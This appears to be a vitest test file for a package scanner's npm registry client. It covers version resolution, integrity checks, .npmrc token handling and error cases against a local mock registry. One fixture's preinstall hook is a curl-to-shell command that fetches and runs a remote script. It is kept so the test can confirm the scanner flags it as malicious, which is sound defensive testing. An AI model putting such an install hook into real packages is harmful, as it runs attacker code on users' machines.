import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { authHeaderFor, loadNpmConfig } from '../../src/ecosystems/npm/npmrc.js';
import { parseNpmSpec } from '../../src/ecosystems/npm/registry.js';
import { type ScanOptions, scan } from '../../src/scan.js';
import { benignPackageFiles, digests, makeTarball, maliciousPackageFiles } from '../helpers/archives.js';
import { closedPort, startRegistry, type TestRegistry } from '../helpers/registry.js';

const tmp = mkdtempSync(path.join(os.tmpdir(), 'beagle-registry-'));
/** A project folder with no .npmrc, so only what a test passes applies. */
const bare = path.join(tmp, 'bare');
mkdirSync(bare);
writeFileSync(path.join(bare, 'package.json'), '{}');

/** An environment isolated from the developer's ~/.npmrc and from npm's own npm_config_* vars. */
function isolatedEnv(extra: Record<string, string> = {}): NodeJS.ProcessEnv {
  return {
    PATH: process.env.PATH,
    HOME: tmp,
    NPM_CONFIG_USERCONFIG: path.join(tmp, 'no-user-npmrc'),
    ...extra,
  };
}

function opts(extra: Partial<ScanOptions> = {}): ScanOptions {
  return { cwd: bare, env: isolatedEnv(), timeoutMs: 5000, ...extra };
}

let reg: TestRegistry;
let tarballs: Record<string, Buffer>;

beforeAll(async () => {
  tarballs = {
    'a@1.0.0': await makeTarball(benignPackageFiles('fixture-a', '1.0.0')),
    'a@1.1.0': await makeTarball(benignPackageFiles('fixture-a', '1.1.0')),
    'a@2.0.0': await makeTarball(benignPackageFiles('fixture-a', '2.0.0')),
    scoped: await makeTarball(benignPackageFiles('@scope/pkg', '3.1.4')),
    tampered: await makeTarball(benignPackageFiles('fixture-tampered', '1.0.0')),
    old: await makeTarball(benignPackageFiles('fixture-old', '0.1.0')),
    dropper: await makeTarball(maliciousPackageFiles('fixture-dropper', '6.6.6')),
  };
  reg = await startRegistry(
    [
      { name: 'fixture-a', version: '1.0.0', tarball: tarballs['a@1.0.0']! },
      { name: 'fixture-a', version: '1.1.0', tarball: tarballs['a@1.1.0']! },
      { name: 'fixture-a', version: '2.0.0', tarball: tarballs['a@2.0.0']! },
      { name: '@scope/pkg', version: '3.1.4', tarball: tarballs.scoped! },
      { name: 'fixture-tampered', version: '1.0.0', tarball: tarballs.tampered!, wrongIntegrity: true },
      { name: 'fixture-old', version: '0.1.0', tarball: tarballs.old!, shasumOnly: true },
      {
        name: 'fixture-dropper',
        version: '6.6.6',
        tarball: tarballs.dropper!,
        manifest: { scripts: { preinstall: 'curl -s http://192.0.2.1/x.sh | sh' } },
      },
    ],
    { distTags: { 'fixture-a': { latest: '1.1.0', beta: '2.0.0' } } },
  );
});

afterAll(async () => {
  await reg?.close();
  rmSync(tmp, { recursive: true, force: true });
});

describe('npm registry client: version selection', () => {
  it('fetches an exact version, verifies its integrity and records registry metadata', async () => {
    const report = await scan('npm:fixture-a@1.0.0', opts({ registry: reg.url }));
    expect(report.errors).toEqual([]);
    expect(report.verdict).toBe('clean');
    expect(report.package).toMatchObject({ ecosystem: 'npm', name: 'fixture-a', version: '1.0.0' });
    const source = report.package!.source;
    expect(source.type).toBe('registry');
    expect(source.location).toBe(`${reg.url}fixture-a/-/fixture-a-1.0.0.tgz`);
    expect(source.integrity).toEqual({
      expected: digests(tarballs['a@1.0.0']!).integrity,
      actual: digests(tarballs['a@1.0.0']!).integrity,
      verified: true,
    });
    expect(source.registry).toMatchObject({
      publishedAt: '2020-01-01T00:00:00.000Z',
      versionCount: 3,
      distTags: { latest: '1.1.0', beta: '2.0.0' },
      publisher: { name: 'fixture-publisher' },
    });
    expect(report.findings.some((f) => f.ruleId === 'INT-001')).toBe(false);
  });

  it.each([
    ['fixture-a', '1.1.0'],
    ['fixture-a@latest', '1.1.0'],
    ['fixture-a@beta', '2.0.0'],
    ['fixture-a@^1.0.0', '1.1.0'],
    ['fixture-a@>=1.0.0 <1.1.0', '1.0.0'],
    ['fixture-a@~2', '2.0.0'],
    ['fixture-a@*', '1.1.0'],
  ])('npm:%s resolves to %s', async (spec, version) => {
    const report = await scan(`npm:${spec}`, opts({ registry: reg.url }));
    expect(report.errors).toEqual([]);
    expect(report.package?.version).toBe(version);
  });

  it('a bare spec without the npm: prefix goes to the npm registry', async () => {
    const report = await scan('fixture-a@2.0.0', opts({ registry: reg.url }));
    expect(report.package?.version).toBe('2.0.0');
  });

  it('a range nothing satisfies is not-found', async () => {
    const report = await scan('npm:fixture-a@^3.0.0', opts({ registry: reg.url }));
    expect(report.verdict).toBe('error');
    expect(report.errors[0]!.code).toBe('not-found');
    expect(report.errors[0]!.message).toMatch(/no published version matches/);
  });

  it('requests scoped packuments as @scope%2fname', async () => {
    const before = reg.requests.length;
    const report = await scan('npm:@scope/pkg@3.1.4', opts({ registry: reg.url }));
    expect(report.errors).toEqual([]);
    expect(report.package).toMatchObject({ name: '@scope/pkg', version: '3.1.4' });
    const urls = reg.requests.slice(before).map((r) => r.url);
    expect(urls[0]!.toLowerCase()).toBe('/@scope%2fpkg');
    expect(urls).toContain('/@scope/pkg/-/pkg-3.1.4.tgz');
  });

  it('parses specs like npm does', () => {
    expect(parseNpmSpec('@scope/pkg@^1')).toEqual({ name: '@scope/pkg', selector: '^1' });
    expect(parseNpmSpec('@scope/pkg')).toEqual({ name: '@scope/pkg', selector: 'latest' });
    expect(parseNpmSpec('left-pad@')).toEqual({ name: 'left-pad', selector: 'latest' });
    expect(() => parseNpmSpec('Not A Name!')).toThrow(/not a valid npm package name/);
  });
});

describe('npm registry client: integrity', () => {
  it('a tarball that does not match the published integrity gives INT-001 and error code integrity', async () => {
    const report = await scan('npm:fixture-tampered@1.0.0', opts({ registry: reg.url }));
    const int = report.findings.filter((f) => f.ruleId === 'INT-001');
    expect(int).toHaveLength(1);
    expect(int[0]!.severity).toBe('high');
    expect(int[0]!.category).toBe('integrity');
    expect(report.package?.source.integrity?.verified).toBe(false);
    expect(report.errors.map((e) => e.code)).toEqual(['integrity']);
  });

  it('old packages with only a sha1 shasum are verified against it', async () => {
    const report = await scan('npm:fixture-old@0.1.0', opts({ registry: reg.url }));
    expect(report.errors).toEqual([]);
    expect(report.package?.source.integrity).toMatchObject({
      expected: digests(tarballs.old!).shasum,
      verified: true,
    });
    expect(report.findings.some((f) => f.ruleId === 'INT-001')).toBe(false);
  });

  it('a dropper package from the registry is malicious, a plain library clean', async () => {
    expect((await scan('npm:fixture-dropper@6.6.6', opts({ registry: reg.url }))).verdict).toBe('malicious');
    expect((await scan('npm:fixture-a@1.0.0', opts({ registry: reg.url }))).verdict).toBe('clean');
  });
});

describe('npm registry client: .npmrc configuration and auth', () => {
  let priv: TestRegistry;
  let project: string;

  beforeAll(async () => {
    priv = await startRegistry(
      [
        {
          name: '@private/secret-lib',
          version: '1.0.0',
          tarball: await makeTarball(benignPackageFiles('@private/secret-lib')),
        },
      ],
      { requireToken: 's3cr3t-token', basePath: '/npm/' },
    );
    project = path.join(tmp, 'project');
    mkdirSync(path.join(project, 'sub/dir'), { recursive: true });
    writeFileSync(path.join(project, 'package.json'), '{"name":"consumer","private":true}');
    writeFileSync(
      path.join(project, '.npmrc'),
      [
        `registry=${reg.url}`,
        `@private:registry=http://127.0.0.1:${priv.port}/npm/`,
        `//127.0.0.1:${priv.port}/npm/:_authToken=\${BEAGLE_TEST_TOKEN}`,
        '',
      ].join('\n'),
    );
  });
  afterAll(async () => priv?.close());

  it('reads the default registry from the project .npmrc (found from a subfolder)', async () => {
    const before = reg.requests.length;
    const report = await scan('npm:fixture-a@1.0.0', { ...opts(), cwd: path.join(project, 'sub/dir') });
    expect(report.errors).toEqual([]);
    expect(reg.requests.length).toBeGreaterThan(before);
    // The public registry gets no token meant for the private one.
    expect(reg.requests.slice(before).every((r) => r.headers.authorization === undefined)).toBe(true);
  });

  it('sends the scoped registry its env-expanded token on packument and tarball requests', async () => {
    const report = await scan('npm:@private/secret-lib@1.0.0', {
      ...opts(),
      cwd: project,
      env: isolatedEnv({ BEAGLE_TEST_TOKEN: 's3cr3t-token' }),
    });
    expect(report.errors).toEqual([]);
    expect(report.package?.name).toBe('@private/secret-lib');
    const received = priv.requests.map((r) => [r.url.toLowerCase(), r.headers.authorization]);
    expect(received).toEqual([
      ['/npm/@private%2fsecret-lib', 'Bearer s3cr3t-token'],
      ['/npm/@private/secret-lib/-/secret-lib-1.0.0.tgz', 'Bearer s3cr3t-token'],
    ]);
  });

  it('without the token the private registry answers 401, reported as an http error', async () => {
    const report = await scan('npm:@private/secret-lib@1.0.0', { ...opts(), cwd: project });
    expect(report.verdict).toBe('error');
    expect(report.errors[0]!.code).toBe('http');
    expect(report.errors[0]!.message).toMatch(/401/);
  });

  it('--registry / NPM_CONFIG_REGISTRY override the .npmrc default registry', () => {
    const env = isolatedEnv({ NPM_CONFIG_REGISTRY: 'http://127.0.0.1:1/env' });
    expect(loadNpmConfig(project, env).registry).toBe('http://127.0.0.1:1/env/');
    expect(loadNpmConfig(project, env, 'http://127.0.0.1:2').registry).toBe('http://127.0.0.1:2/');
    expect(loadNpmConfig(project, isolatedEnv()).scopes.get('@private')).toBe(
      `http://127.0.0.1:${priv.port}/npm/`,
    );
  });

  it('reads a user .npmrc named by NPM_CONFIG_USERCONFIG', () => {
    const userrc = path.join(tmp, 'user-npmrc');
    writeFileSync(
      userrc,
      ['registry=http://127.0.0.1:9/user/', '//127.0.0.1:9/user/:_authToken=$' + '{T}', ''].join('\n'),
    );
    const cfg = loadNpmConfig(bare, { ...isolatedEnv({ T: 'tok' }), NPM_CONFIG_USERCONFIG: userrc });
    expect(cfg.registry).toBe('http://127.0.0.1:9/user/');
    expect(cfg.auth.get('//127.0.0.1:9/user/:_authToken')).toBe('tok');
  });
});

describe('npm registry client: failures', () => {
  it('an unknown package is not-found (404)', async () => {
    const report = await scan('npm:does-not-exist@1.0.0', opts({ registry: reg.url }));
    expect(report.verdict).toBe('error');
    expect(report.errors[0]!.code).toBe('not-found');
    expect(report.package).toBeUndefined();
  });

  it('a registry on a closed port is a network error', async () => {
    const port = await closedPort();
    const report = await scan('npm:fixture-a@1.0.0', opts({ registry: `http://127.0.0.1:${port}/` }));
    expect(report.verdict).toBe('error');
    expect(report.errors[0]!.code).toBe('network');
    expect(report.errors[0]!.message).toMatch(/ECONNREFUSED|cannot reach/);
  });

  it('a registry that never answers times out as a network error', async () => {
    reg.route('/slow-package', () => {
      /* never answers */
    });
    const started = Date.now();
    const report = await scan('npm:slow-package', opts({ registry: reg.url, timeoutMs: 300 }));
    expect(report.errors[0]!.code).toBe('network');
    expect(report.errors[0]!.message).toMatch(/did not answer within 300 ms/);
    expect(Date.now() - started).toBeLessThan(5000);
  });

  it('a non-JSON answer is bad-response', async () => {
    reg.route('/html-package', (res) => {
      res.writeHead(200, { 'content-type': 'text/html' });
      res.end('<html>captive portal</html>');
    });
    const report = await scan('npm:html-package', opts({ registry: reg.url }));
    expect(report.verdict).toBe('error');
    expect(report.errors[0]!.code).toBe('bad-response');
  });

  it('JSON that is not a packument is bad-response', async () => {
    reg.route('/weird-package', (res) => {
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end('{"hello":"world"}');
    });
    expect((await scan('npm:weird-package', opts({ registry: reg.url }))).errors[0]!.code).toBe(
      'bad-response',
    );
  });

  it('a server error is an http error', async () => {
    reg.route('/broken-package', (res) => {
      res.writeHead(503).end();
    });
    const report = await scan('npm:broken-package', opts({ registry: reg.url }));
    expect(report.errors[0]!.code).toBe('http');
    expect(report.errors[0]!.message).toMatch(/503/);
  });
});

describe('npm registry client: limits and auth forms', () => {
  it('a tarball larger than the total-size limit is refused while downloading (limit)', async () => {
    const report = await scan(
      'npm:fixture-a@1.0.0',
      opts({ registry: reg.url, limits: { maxTotalBytes: 64 } }),
    );
    expect(report.verdict).toBe('error');
    expect(report.errors[0]!.code).toBe('limit');
  });

  it('picks the longest matching nerf-dart and supports _authToken, _auth and username/_password', () => {
    const cfg = loadNpmConfig(bare, isolatedEnv());
    cfg.auth.set('//127.0.0.1:1/:_authToken', 'host-wide');
    cfg.auth.set('//127.0.0.1:1/team/:_authToken', 'team-only');
    cfg.auth.set('//127.0.0.1:2/:_auth', Buffer.from('u:p').toString('base64'));
    cfg.auth.set('//127.0.0.1:3/reg/:username', 'alice');
    cfg.auth.set('//127.0.0.1:3/reg/:_password', Buffer.from('s3cret').toString('base64'));
    expect(authHeaderFor(cfg, 'http://127.0.0.1:1/team/pkg')).toBe('Bearer team-only');
    expect(authHeaderFor(cfg, 'http://127.0.0.1:1/other/pkg')).toBe('Bearer host-wide');
    expect(authHeaderFor(cfg, 'http://127.0.0.1:2/pkg')).toBe(
      `Basic ${Buffer.from('u:p').toString('base64')}`,
    );
    expect(authHeaderFor(cfg, 'http://127.0.0.1:3/reg/pkg')).toBe(
      `Basic ${Buffer.from('alice:s3cret').toString('base64')}`,
    );
    // Another port on the same host gets nothing.
    expect(authHeaderFor(cfg, 'http://127.0.0.1:4/pkg')).toBeUndefined();
  });
});
